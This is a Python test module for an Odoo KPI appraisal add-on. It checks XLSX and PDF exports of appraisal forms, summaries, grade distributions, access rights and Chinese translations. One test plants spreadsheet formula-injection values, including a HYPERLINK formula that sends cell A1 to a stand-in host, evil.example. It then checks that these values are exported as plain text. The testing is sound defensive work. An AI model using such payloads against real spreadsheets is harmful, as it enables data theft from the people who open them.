import base64
import io
from unittest import SkipTest

from odoo.exceptions import AccessError
from odoo.fields import Command
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from ..report import xlsx_appraisal
from .common import KpiCase

try:
    import openpyxl
except ImportError:  # pragma: no cover - openpyxl comes with Odoo's requirements
    openpyxl = None

REPORT = "hr_kpi_appraisal.hr_kpi_appraisal_report"
TABLE_HEADER = [
    "No.",
    "Indicator",
    "Max Points",
    "Target",
    "Criteria",
    "Self Points",
    "Supervisor Points",
    "Result",
]
#: Texts that a spreadsheet would run or link if they were written as formulas,
#: links or numbers.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
URL = "http://evil.example"
ARRAY = "{=1+1}"
SUBTOTAL = "Weighted Subtotal (Section Score × Weight)"


@tagged("post_install", "-at_install")
class TestReports(KpiCase):
    """The 考核表 as XLSX and PDF, and the XLSX summary with its grade distribution.

    王芳 (客服部, self 30% / supervisor 70%, a late arrival of -3) ends with
    73.46 - 3 = 70.46, grade C and 704.60 of pay; 张伟 (售后部, supervisor only,
    a template with one more indicator FCR) ends with 95.33, grade A, no pay (no
    contract).
    """

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        if openpyxl is None:
            raise SkipTest("openpyxl is not installed: the XLSX cannot be read back")
        Department = cls.env["hr.department"]
        cls.dept_service = Department.create({"name": "客服部"})
        cls.dept_after_sales = Department.create({"name": "售后部"})
        cls.emp_agent.write(
            {
                "barcode": "A0001",
                "department_id": cls.dept_service.id,
                "job_id": cls.env["hr.job"].create({"name": "话务员"}).id,
            }
        )
        cls.emp_peer.write(
            {
                "barcode": "B0002",
                "department_id": cls.dept_after_sales.id,
                "job_id": cls.env["hr.job"].create({"name": "质检员"}).id,
            }
        )
        cls.template_peer = cls.env["hr.kpi.template"].create(
            cls._template_values(code="T-PEER", name="售后 monthly", self_review=False)
        )
        kpi = cls.template_peer.section_ids.filtered(lambda s: s.code == "KPI")
        kpi.indicator_ids = [
            Command.create(
                {
                    "code": "FCR",
                    "name": "一次解决率",
                    "max_points": 20.0,
                    "scoring_method": "points",
                }
            )
        ]
        cls.type_late = cls.env["hr.kpi.adjustment.type"].create(
            {"name": "迟到", "code": "R-LATE", "category": "attendance", "points": -3}
        )

    def setUp(self):
        super().setUp()
        self.appraisal = self.create_appraisal(
            adjustment_ids=[Command.create({"type_id": self.type_late.id})]
        )
        self.walk(self.appraisal, until="self_review")
        self.appraisal.with_user(self.user_agent).employee_comment = "本月通话量达标。"
        self.walk(self.appraisal, until="manager_review")
        self.appraisal.with_user(self.user_lead).note = "<p>态度良好，继续保持。</p>"
        self.walk(self.appraisal)
        self.peer = self.create_appraisal(
            employee=self.emp_peer, template=self.template_peer
        )
        self.peer.with_user(self.user_hr).action_start()
        self.fill_manager(
            self.peer,
            {"ATT": 38, "CUST": 5, "TEAM": 100, "FCR": 15},
            actual=40,
            complaints=0,
        )
        self.peer.with_user(self.user_lead).action_submit_manager()
        self.peer.with_user(self.user_hr).action_hr_approve()
        self.peer.with_user(self.user_gm).action_gm_approve()
        self.assertEqual(self.appraisal.state, "done")
        self.assertEqual(self.peer.state, "done")

    # ------------------------------------------------------------------
    # Helpers
    # ------------------------------------------------------------------

    def download(self, action):
        """The workbook behind the download action, as its creator sees it."""
        self.assertEqual(action["type"], "ir.actions.act_url")
        attachment_id = int(action["url"].split("/")[3].split("?")[0])
        attachment = self.env["ir.attachment"].browse(attachment_id)
        self.assertFalse(attachment.res_id, "not shown on any appraisal's chatter")
        return attachment, self.workbook(base64.b64decode(attachment.datas))

    @staticmethod
    def workbook(content):
        return openpyxl.load_workbook(io.BytesIO(content))

    @staticmethod
    def row(sheet, number, width=8):
        return [cell.value for cell in sheet[number]][:width]

    def activate_chinese(self):
        self.env["res.lang"]._activate_lang("zh_CN")
        self.env["ir.module.module"]._load_module_terms(
            ["hr_kpi_appraisal"], ["zh_CN"], overwrite=True
        )
        self.template.update_field_translations("name", {"zh_CN": "话务员月度"})

    # ------------------------------------------------------------------
    # XLSX of one appraisal
    # ------------------------------------------------------------------

    def test_form_xlsx(self):
        attachment, book = self.download(
            self.appraisal.with_user(self.user_lead).action_export_xlsx()
        )
        self.assertEqual(attachment.name, f"{self.appraisal.name}.xlsx")
        self.assertEqual(book.sheetnames, ["王芳 2026-10"])
        sheet = book.active
        self.assertEqual(sheet["A1"].value, "话务员 monthly Appraisal Form")
        self.assertEqual(sheet["A2"].value, self.env.company.name)
        self.assertEqual(
            self.row(sheet, 3),
            [
                "Employee: 王芳",
                None,
                "Employee No.: A0001",
                None,
                "Department: 客服部",
                "Job: 话务员",
                None,
                None,
            ],
        )
        self.assertEqual(
            self.row(sheet, 4),
            [
                "Supervisor: 李强",
                None,
                "Template Code: T-AGENT",
                None,
                "Period: 10/01/2026 to 10/31/2026",
                "Status: Done",
                None,
                None,
            ],
        )
        self.assertEqual(self.row(sheet, 6), TABLE_HEADER)
        expected = [
            ["业绩考核 (80%)"] + [None] * 7,
            [1, "服务态度", 40, None, None, 36, 32, 33.2],
            [2, "平均响应时间", 30, None, None, 20, 20, 20],
            [3, "投诉次数", 30, None, None, 20, 20, 20],
            # 76 / 72 / 73.2 of 100 points, weighted 80%
            [SUBTOTAL, None, 80, None, None, 60.8, 57.6, 58.56],
            ["行为考核 (20%)"] + [None] * 7,
            [4, "以客户为中心", 50, None, None, 40, 30, 33],
            [5, "团队合作", 50, None, None, 45, 40, 41.5],
            [6, "重大服务事故", 0, None, None, 0, 0, 0],
            [SUBTOTAL, None, 20, None, None, 17, 14, 14.9],
            [None] * 8,
            ["Self Score"] + [None] * 6 + [77.8],
            ["Supervisor Score"] + [None] * 6 + [71.6],
            ["Bonus Points"] + [None] * 6 + [0],
            ["Penalty Points"] + [None] * 6 + [0],
            ["Adjustment Points"] + [None] * 6 + [-3],
            ["Total Score"] + [None] * 6 + [70.46],
            ["Grade"] + [None] * 6 + ["C – 合格"],
            # the supervisor is not told the team's pay
            ["Performance Pay"] + [None] * 7,
            [None] * 8,
            ["Employee Comment", None, "本月通话量达标。"] + [None] * 5,
            ["Supervisor Comment", None, "态度良好，继续保持。"] + [None] * 5,
            [None] * 8,
            [
                "Appraisee:",
                None,
                "Direct Supervisor:",
                None,
                "HR Department:",
                "General Manager:",
                None,
                None,
            ],
            ["Date:", None, "Date:", None, "Date:", "Date:", None, None],
        ]
        for number, values in enumerate(expected, start=7):
            self.assertEqual(self.row(sheet, number), values, f"row {number}")
        self.assertEqual(sheet.max_row, 6 + len(expected))
        self.assertEqual(self.appraisal.total_score, 70.46)
        self.assertEqual(self.appraisal.performance_pay, 704.6)
        _attachment, book = self.download(
            self.appraisal.with_user(self.user_hr).action_export_xlsx()
        )
        pay = {row[0].value: row[7].value for row in book.active.iter_rows(min_row=7)}
        self.assertEqual(pay["Performance Pay"], 704.6, "HR is told the pay")
        # formats and print setup
        self.assertEqual(sheet["H8"].number_format, "0.00")
        self.assertIn("#,##0.00", sheet["H25"].number_format)
        self.assertEqual(sheet.page_setup.orientation, "landscape")
        self.assertEqual(str(sheet.page_setup.paperSize), "9")
        self.assertTrue(sheet.sheet_properties.pageSetUpPr.fitToPage)
        setup = sheet.page_setup  # a width of 1 page is the default: not written
        self.assertEqual((setup.fitToWidth or 1, setup.fitToHeight), (1, 0))
        self.assertEqual(sheet.print_title_rows, "$6:$6")

    def test_forms_xlsx_several(self):
        """Several appraisals give one workbook with a sheet each."""
        appraisals = (self.appraisal | self.peer).with_user(self.user_hr)
        attachment, book = self.download(appraisals.action_export_xlsx())
        self.assertEqual(attachment.name, "Appraisal Forms.xlsx")
        self.assertEqual(book.sheetnames, ["王芳 2026-10", "张伟 2026-10"])
        sheet = book["张伟 2026-10"]
        self.assertEqual(sheet["A1"].value, "售后 monthly Appraisal Form")
        self.assertEqual(
            self.row(sheet, 11), [4, "一次解决率", 20, None, None, None, 15, 15]
        )
        self.assertEqual(self.row(sheet, 12)[:3], [SUBTOTAL, None, 80])
        self.assertEqual(sheet["A19"].value, "Self Score")
        self.assertIsNone(sheet["H19"].value, "no self score without self review")
        self.assertEqual(sheet["A24"].value, "Total Score")
        self.assertEqual(sheet["H24"].value, 95.33)

    def test_subtotals_are_the_engine_sections(self):
        """Each subtotal row shows the engine's weighted points of its section
        (XLSX and PDF); they add up to the supervisor's score."""
        appraisals = self.appraisal | self.peer
        book = self.workbook(xlsx_appraisal.forms_xlsx(appraisals))
        html = self.render_html(appraisals)
        for appraisal, sheet in zip(appraisals, book.worksheets, strict=True):
            sections = list(appraisal._engine_sections().values())
            rows = [
                self.row(sheet, row[0].row)
                for row in sheet.iter_rows(min_row=7)
                if row[0].value == SUBTOTAL
            ]
            self.assertEqual(
                [row[2:3] + row[5:] for row in rows],
                [
                    [s["weight"], s["self_points"], s["manager_points"], s["points"]]
                    for s in sections
                ],
            )
            self.assertAlmostEqual(
                sum(s["manager_points"] for s in sections), appraisal.manager_score
            )
            for section in sections:
                self.assertIn(f"{section['points']:.2f}", html)
        agent = self.appraisal._engine_sections()
        self.assertEqual(
            [(s["score"], s["points"]) for s in agent.values()],
            [(73.2, 58.56), (74.5, 14.9)],
        )
        self.assertEqual(html.count('class="fw-bold o_kpi_subtotal"'), 4)

    def test_sheet_names_unique(self):
        book = xlsx_appraisal._Workbook(self.env)
        names = [book.add_sheet(name).name for name in ["a/b", "A/B", "x" * 40]]
        self.assertEqual(names, ["ab", "AB (2)", "x" * 31])

    def test_queries_do_not_grow(self):
        """Reading a second appraisal's lines costs no query of its own."""

        def count(appraisals):
            self.env.invalidate_all()
            before = self.env.cr.sql_log_count
            xlsx_appraisal.forms_xlsx(appraisals)
            xlsx_appraisal.summary_xlsx(appraisals)
            return self.env.cr.sql_log_count - before

        count(self.appraisal | self.peer)  # fill the caches that outlive invalidation
        self.assertEqual(count(self.appraisal), count(self.appraisal | self.peer))

    # ------------------------------------------------------------------
    # Summary XLSX
    # ------------------------------------------------------------------

    def test_summary_xlsx(self):
        appraisals = (self.appraisal | self.peer).with_user(self.user_lead)
        attachment, book = self.download(appraisals.action_export_summary_xlsx())
        self.assertEqual(attachment.name, "Appraisal Summary.xlsx")
        self.assertEqual(book.sheetnames, ["Summary", "Grade distribution"])
        sheet = book["Summary"]
        self.assertEqual(
            self.row(sheet, 1, 17),
            [
                "Employee No.",
                "Employee",
                "Department",
                "Job",
                "服务态度",
                "平均响应时间",
                "投诉次数",
                "以客户为中心",
                "团队合作",
                "重大服务事故",
                "一次解决率",
                "Total Score",
                "Grade",
                "Calibrated Grade",
                "Rank in Department",
                "Ranked Among",
                "Performance Pay",
            ],
        )
        # each alone in their department and template: first of one
        self.assertEqual(
            self.row(sheet, 2, 17),
            ["B0002", "张伟", "售后部", "质检员", 38, 30, 30, 50, 50, 0, 15]
            + [95.33, "A – 优秀", "A – 优秀", 1, 1, None],
        )
        self.assertEqual(
            self.row(sheet, 3, 17),
            ["A0001", "王芳", "客服部", "话务员", 33.2, 20, 20, 33, 41.5, 0, None]
            + [70.46, "C – 合格", "C – 合格", 1, 1, None],
        )
        self.assertEqual(sheet.max_row, 3)
        self.assertEqual(sheet.freeze_panes, "C2")
        self.assertEqual(sheet.auto_filter.ref, "A1:Q3")
        self.assertEqual(sheet["E2"].number_format, "0.00")
        self.assertEqual(sheet["L3"].number_format, "0.00")
        self.assertEqual(sheet["O3"].number_format, "0")
        self.assertIn("#,##0.00", sheet["Q3"].number_format)

        sheet = book["Grade distribution"]
        grades = ["A – 优秀", "B – 良好", "C – 合格", "D – 较差", "E – 极差"]
        self.assertEqual(sheet["A1"].value, "Grade Scale: A–E")
        self.assertEqual(
            self.row(sheet, 2, 12),
            ["Department", "Headcount"]
            + [value for grade in grades for value in (grade, None)],
        )
        self.assertEqual(self.row(sheet, 3, 12), [None, None] + ["Count", "Share"] * 5)
        self.assertEqual(
            self.row(sheet, 4, 12), ["售后部", 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0]
        )
        self.assertEqual(
            self.row(sheet, 5, 12), ["客服部", 1, 0, 0, 0, 0, 1, 1, 0, 0, 0, 0]
        )
        self.assertEqual(
            self.row(sheet, 6, 12),
            ["All Departments", 2, 1, 0.5, 0, 0, 1, 0.5, 0, 0, 0, 0],
        )
        self.assertEqual(sheet.max_row, 6)
        self.assertEqual(sheet["D6"].number_format, "0.00%")

    def test_export_rights(self):
        """Exports read as the user: record rules apply, the employee's own form
        waits for its publication, the file is theirs alone."""
        appraisals = self.appraisal | self.peer
        with self.assertRaises(AccessError):
            appraisals.with_user(self.user_agent).action_export_summary_xlsx()
        with self.assertRaises(AccessError):
            self.appraisal.with_user(self.user_agent).action_export_xlsx()
        self.appraisal.with_user(self.user_hr).action_publish()
        action = self.appraisal.with_user(self.user_agent).action_export_xlsx()
        attachment, _book = self.download(action)
        Attachment = self.env["ir.attachment"]
        domain = [("id", "=", attachment.id)]
        self.assertEqual(
            Attachment.with_user(self.user_agent).search(domain), attachment
        )
        self.assertFalse(Attachment.with_user(self.user_hr).search(domain))
        with self.assertRaises(AccessError):
            attachment.with_user(self.user_hr).raw  # noqa: B018

    # ------------------------------------------------------------------
    # Texts stay texts
    # ------------------------------------------------------------------

    def assert_texts_only(self, book, texts):
        """No cell of ``book`` is a formula or a link, and each of ``texts`` is in
        a string cell; returns ``{text: cell}``."""
        found = {}
        for sheet in book.worksheets:
            self.assertFalse(sheet._hyperlinks, sheet.title)
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, "f", cell.coordinate)
                    self.assertIsNone(cell.hyperlink, cell.coordinate)
                    if cell.value in texts:
                        self.assertEqual(cell.data_type, "s", cell.coordinate)
                        found.setdefault(cell.value, cell)
        self.assertEqual(set(found), set(texts))
        return found

    def test_xlsx_texts_are_never_formulas(self):
        """What users type is written as text, in both exports; numbers stay numbers.

        The employee comment, the supervisor comment, the line notes, the template,
        indicator, employee, department and job names hold formulas, a link and
        texts that look like formulas to a spreadsheet.
        """
        template = self.create_template("T-TEXTS", name="@SUM(A1)")
        indicators = {i.code: i for i in template.section_ids.indicator_ids}
        indicators["ATT"].name = "+1+1"
        indicators["RESP"].name = HYPERLINK
        indicators["COMPL"].target = "-2+3"
        indicators["CUST"].criteria = "@SUM(A1)"
        indicators["TEAM"].name = URL
        indicators["VETO"].name = ARRAY
        self.emp_agent.name = HYPERLINK
        self.dept_service.name = "-2+3"
        self.emp_agent.job_id.name = URL
        # the new lines copy the indicator texts from the database
        self.env.flush_all()
        appraisal = self.create_appraisal(
            template=template,
            date_from=self.period["date_from"].replace(month=11),
            date_to=self.period["date_to"].replace(month=11, day=30),
        )
        self.walk(appraisal, until="self_review")
        as_agent = appraisal.with_user(self.user_agent)
        as_agent.employee_comment = HYPERLINK
        self.line(as_agent, "ATT").self_note = "-2+3"
        self.walk(appraisal, until="manager_review")
        as_lead = appraisal.with_user(self.user_lead)
        as_lead.note = f"<p>{URL}</p>"
        self.line(as_lead, "ATT").note = "+1+1"
        self.line(as_lead, "TEAM").note = ARRAY
        self.walk(appraisal)

        as_hr = appraisal.with_user(self.user_hr)
        _attachment, book = self.download(as_hr.action_export_xlsx())
        found = self.assert_texts_only(
            book,
            {
                "@SUM(A1) Appraisal Form",
                f"Employee: {HYPERLINK}",
                "Department: -2+3",
                f"Job: {URL}",
                "+1+1",
                HYPERLINK,
                "-2+3",
                "@SUM(A1)",
                URL,
                ARRAY,
            },
        )
        sheet = book.active
        self.assertEqual(found["@SUM(A1) Appraisal Form"].coordinate, "A1")
        comments = {row[0].value: row[2] for row in sheet.iter_rows(min_row=7)}
        for label, text in [
            ("Employee Comment", HYPERLINK),
            ("Supervisor Comment", URL),
        ]:
            self.assertEqual(comments[label].value, text)
            self.assertEqual(comments[label].data_type, "s")
        numbers = [row[7] for row in sheet.iter_rows(min_row=7) if row[1].value]
        self.assertEqual(
            [cell.value for cell in numbers], appraisal.line_ids.mapped("points")
        )
        self.assertEqual({cell.data_type for cell in numbers}, {"n"})
        pay = {row[0].value: row[7] for row in sheet.iter_rows(min_row=7)}
        self.assertEqual(pay["Performance Pay"].value, appraisal.performance_pay)
        self.assertEqual(pay["Performance Pay"].data_type, "n")
        self.assertEqual(pay["Total Score"].data_type, "n")

        _attachment, book = self.download(as_hr.action_export_summary_xlsx())
        self.assert_texts_only(book, {"+1+1", HYPERLINK, "-2+3", URL, ARRAY})
        sheet = book["Summary"]
        self.assertEqual(
            self.row(sheet, 1, 15)[:11],
            ["Employee No.", "Employee", "Department", "Job"]
            + ["+1+1", HYPERLINK, "投诉次数", "以客户为中心", URL, ARRAY]
            + ["Total Score"],
        )
        self.assertEqual(self.row(sheet, 2, 4), ["A0001", HYPERLINK, "-2+3", URL])
        types = [cell.data_type for cell in sheet[2]]
        self.assertEqual(types[4:11] + types[13:16], ["n"] * 10, "points, rank and pay")
        self.assertEqual(sheet["P2"].value, appraisal.performance_pay)

    # ------------------------------------------------------------------
    # Languages
    # ------------------------------------------------------------------

    def test_form_xlsx_chinese(self):
        self.activate_chinese()
        appraisal = self.appraisal.with_context(lang="zh_CN")
        book = self.workbook(xlsx_appraisal.forms_xlsx(appraisal))
        sheet = book.active
        self.assertEqual(sheet["A1"].value.replace(" ", ""), "话务员月度考核表")
        self.assertEqual(sheet["A3"].value, "员工：王芳")
        self.assertEqual(sheet["C3"].value, "工号：A0001")
        self.assertEqual(
            sheet["E4"].value, "考核周期：2026年10月01日 至 2026年10月31日"
        )
        self.assertEqual(
            self.row(sheet, 6),
            [
                "序号",
                "考核指标",
                "分值",
                "目标要求",
                "评分标准",
                "自评得分",
                "上级得分",
                "得分",
            ],
        )
        self.assertEqual(self.row(sheet, 8)[:2], [1, "服务态度"])
        self.assertEqual(sheet["A11"].value, "加权小计（维度得分 × 权重）")
        self.assertEqual(sheet["A23"].value, "总分")
        self.assertEqual(sheet["A30"].value, "被考核人：")
        self.assertEqual(sheet["C30"].value, "直接上级：")
        self.assertEqual(sheet["E30"].value, "人力资源部：")
        self.assertEqual(sheet["F30"].value, "总经理：")
        self.assertEqual(sheet["A31"].value, "日期：")
        summary = self.workbook(xlsx_appraisal.summary_xlsx(appraisal | self.peer))
        self.assertEqual(summary.sheetnames, ["汇总", "等级分布"])
        self.assertEqual(summary["汇总"]["A1"].value, "工号")

    # ------------------------------------------------------------------
    # PDF
    # ------------------------------------------------------------------

    def render_html(self, appraisals):
        html, report_type = self.env["ir.actions.report"]._render_qweb_html(
            REPORT, appraisals.ids
        )
        self.assertEqual(report_type, "html")
        return html.decode()

    def test_report_bound_to_print(self):
        report = self.env.ref(REPORT)
        self.assertEqual(report.binding_model_id.model, "hr.kpi.appraisal")
        self.assertEqual(report.report_type, "qweb-pdf")
        self.assertEqual(report.paperformat_id.orientation, "Landscape")

    def test_report_html_english(self):
        html = self.render_html(self.appraisal | self.peer)
        for text in [
            "话务员 monthly Appraisal Form",
            "售后 monthly Appraisal Form",
            "A0001",
            "10/01/2026 to 10/31/2026",
            "业绩考核 (80%)",
            "服务态度",
            SUBTOTAL,
            "58.56",
            "70.46",
            "95.33",
            "C – 合格",
            "本月通话量达标。",
            "态度良好，继续保持。",
            "Appraisee",
            "Direct Supervisor",
            "HR Department",
            "General Manager",
        ]:
            self.assertIn(text, html)
        self.assertEqual(html.count('class="article o_kpi_appraisal_form"'), 2)

    def test_report_html_chinese(self):
        """Each form comes out in its employee's language."""
        self.activate_chinese()
        self.emp_agent.lang = "zh_CN"
        html = self.render_html(self.appraisal | self.peer)
        agent, peer = html.split('class="article o_kpi_appraisal_form"')[1:]
        self.assertRegex(agent, "<h3[^>]*>话务员月度 ?考核表</h3>")
        for text in [
            "工号",
            "考核周期",
            "2026年10月01日 至 2026年10月31日",
            "序号",
            "加权小计（维度得分 × 权重）",
            "总分",
            "考核等级",
            "绩效工资",
            "被考核人",
            "直接上级",
            "人力资源部",
            "总经理",
        ]:
            self.assertIn(text, agent)
        self.assertIn("Appraisee", peer)
        self.assertNotIn("被考核人", peer)


@tagged("post_install", "-at_install")
class TestReportPdf(KpiCase, HttpCase):
    """wkhtmltopdf fetches the report's style sheets from the server: in an
    HttpCase those requests share the test's transaction instead of waiting on it."""

    def test_report_pdf(self):
        """A real PDF when wkhtmltopdf is installed (test_report_html_* otherwise)."""
        Report = self.env["ir.actions.report"].with_context(force_report_rendering=True)
        state = Report.get_wkhtmltopdf_state()
        if state != "ok":
            self.skipTest(
                f"wkhtmltopdf cannot print here (state: {state}); the HTML tests "
                "check the content"
            )
        # An unpatched wkhtmltopdf build (the distributions') says on stderr that it
        # ignores the header and footer, which Odoo logs as a warning.
        with mute_logger("odoo.addons.base.models.ir_actions_report"):
            pdf, report_type = Report._render_qweb_pdf(
                REPORT, self.create_appraisal().ids
            )
        self.assertEqual(report_type, "pdf")
        self.assertTrue(pdf.startswith(b"%PDF"))
